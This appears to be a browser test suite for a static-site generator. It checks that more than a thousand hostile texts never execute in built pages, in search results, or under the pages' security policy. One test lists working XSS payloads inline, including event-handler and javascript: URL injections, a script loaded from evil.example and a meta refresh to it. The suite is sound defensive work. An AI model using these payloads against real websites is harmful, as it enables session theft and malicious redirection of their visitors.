// Nothing that an author, a translator or a stranger writes runs in a reader's browser: more than a thousand texts that try,
// in every place where a text can stand, in Chromium with an ear on everything that runs. What is cleaned must be clean
// without the policy that pages bring with them, and the policy must hold where nothing is cleaned.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { launch } from './chromium.js';
import { Site, page, parcels, siteOfSettings } from './hostile/site.js';
import { ours, published } from './hostile/vectors.js';
import { Watch, apart, pagesBelow, serveAll } from './hostile/watch.js';

const lists = { published: published(), ours: ours() };
const texts = [...lists.published, ...lists.ours];

/** How many pages are looked at side by side. */
const ears = 3;

let browser;
let sorted;
const sites = [];
before(async () => {
  browser = await launch();
  sorted = await apart(browser, texts);
});
after(async () => {
  await browser?.close();
  sites.forEach((site) => site.remove());
});

/** A site with these texts, built. */
function built(settings, add, options) {
  const site = new Site(settings);
  sites.push(site);
  add(site);
  const folder = site.build(options);
  assert.ok(folder, site.reason);
  return folder;
}

/** Pages that have been looked at, by what is in them: the same page twice would say the same. */
const seen = new Set();

/** Looks at all pages of some sites, and gives what ran. */
async function look(folders, { withPolicy = false, onlyRuns = false } = {}) {
  const server = await serveAll(folders, { withPolicy });
  const waiting = Object.entries(folders)
    .flatMap(([name, folder]) => pagesBelow(folder).map(({ address, hash }) => ({ address: `${server.origin}/${name}/${address}`, hash: `${withPolicy} ${hash}` })))
    .filter(({ hash }) => !seen.has(hash) && seen.add(hash));
  const count = waiting.length;
  const ran = [];
  try {
    await Promise.all(
      Array.from({ length: ears }, async () => {
        const watch = await Watch.open(browser);
        for (let page = waiting.pop(); page; page = waiting.pop()) ran.push(...(await watch.look(page.address, { onlyRuns })));
        await watch.close();
      }),
    );
  } finally {
    server.close();
  }
  return { count, ran };
}

function assertNone({ count, ran }, least) {
  assert.ok(count >= least, `only ${count} pages were looked at`);
  assert.equal(ran.length, 0, `${ran.length} on ${count} pages:\n${ran.slice(0, 40).join('\n')}`);
}

test('there are texts enough to be tried', () => {
  assert.ok(lists.published.length >= 300 && lists.ours.length >= 600, `${lists.published.length} and ${lists.ours.length}`);
});

/** The ear hears what runs, and the hand touches what would: else silence would mean nothing. */
test('what runs is heard', async () => {
  const runs = ['<script>ran()</script>', '<img src=x onerror=alert(1)>', '<details open ontoggle=ran()>', '<iframe srcdoc="<script>parent.ran()</script>"></iframe>', '<svg><a xlink:href="javascript:ran()">x</a></svg>', '<form action="java&Tab;script:ran()"></form>', '<p onmouseover=ran()>x</p>', '<script src="//evil.example/ran.js"></script>', '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<script>setTimeout("ran()")</script>', '<script>location="/elsewhere"</script>'];
  const add = (site) => runs.forEach((text, at) => site.write(`content/runs/${at}.md`, page({ title: `Runs ${at}` }, text)));
  const folder = built({ markdown: { raw_html: 'allow' }, languages: ['en'] }, add, ['--no-search']);
  const { ran } = await look({ runs: folder });
  const silent = runs.map((_, at) => at).filter((at) => !ran.some((line) => line.startsWith(`/runs/en/runs/${at}/`)));
  assert.deepEqual(silent.map((at) => runs[at]), []);
});

for (const raw_html of ['sanitise', 'escape']) {
  test(`HTML and Markdown of strangers, under ${raw_html}: nothing runs`, async () => {
    const folder = built({ markdown: { raw_html }, languages: ['en'] }, (site) => site.addMarkdown('texts', sorted), ['--no-search']);
    assertNone(await look({ [raw_html]: folder }), sorted.open.length / 2);
  });
}

for (const raw_html of ['sanitise', 'escape', 'allow']) {
  test(`fields, titles, links and names of files, under ${raw_html}: nothing runs`, async () => {
    const add = (site) => {
      site.addFields(texts);
      site.addPlaces(texts);
      site.addNames(parcels(texts, 8).map(([text]) => text));
    };
    const inOne = built({ markdown: { raw_html }, languages: ['en'] }, add, ['--no-search']);
    // Borrowed and translated, and beside the language of the offices.
    const inTwo = built({ markdown: { raw_html }, official_language: 'ar' }, (site) => site.addFields(texts, 300), ['--no-search']);
    assertNone(await look({ [`${raw_html}-one`]: inOne, [`${raw_html}-two`]: inTwo }), raw_html === 'sanitise' ? 400 : 0);
  });
}

test('the configuration and the strings of a theme: nothing runs', async () => {
  const folders = {};
  parcels(texts, 60).forEach((some, at) => {
    const site = siteOfSettings(some);
    sites.push(site);
    const folder = site.build(['--no-search']);
    assert.ok(folder, site.reason);
    folders[`settings-${at}`] = folder;
  });
  assertNone(await look(folders), 100);
});

describe('the search', () => {
  test('shows titles and texts as text, and what is asked for as well: nothing runs', async () => {
    const folder = built({ languages: ['en'] }, (site) => {
      texts.forEach((text, at) => site.write(`content/found/${at}.md`, page({ title: `welcome ${text}`, summary: text }, `welcome word${at} ${text.replace(/</g, '&lt;')}\n`)));
    });
    const server = await serveAll({ search: folder }, { withPolicy: false });
    const watch = await Watch.open(browser);
    try {
      const ran = [];
      for (const query of ['welcome', ...parcels(texts, 40).map((_, at) => `word${at * 40}`), ...parcels(texts, 12).map(([text]) => text)]) {
        const address = `${server.origin}/search/en/search/?q=${encodeURIComponent(query)}`;
        ran.push(...(await watch.look(address)));
        await watch.page.waitForFunction(() => document.querySelector('[role="status"]').textContent !== '');
        ran.push(...(await watch.page.evaluate(() => window.heard)));
        const strange = await watch.page.$$eval('.results *', (all) => all.filter((one) => !['A', 'P', 'MARK', 'LI', 'SPAN', 'H2', 'H3', 'DIV', 'BDI', 'SMALL'].includes(one.tagName)).map((one) => one.outerHTML));
        ran.push(...strange);
      }
      assert.deepEqual(ran, []);
    } finally {
      await watch.close();
      server.close();
    }
  });
});

test('the policy that pages bring with them holds where nothing is cleaned', async () => {
  const folder = built({ markdown: { raw_html: 'allow' }, languages: ['en'] }, (site) => site.addMarkdown('texts', sorted), ['--no-search']);
  assertNone(await look({ policy: folder }, { withPolicy: true, onlyRuns: true }), sorted.open.length / 2);
});
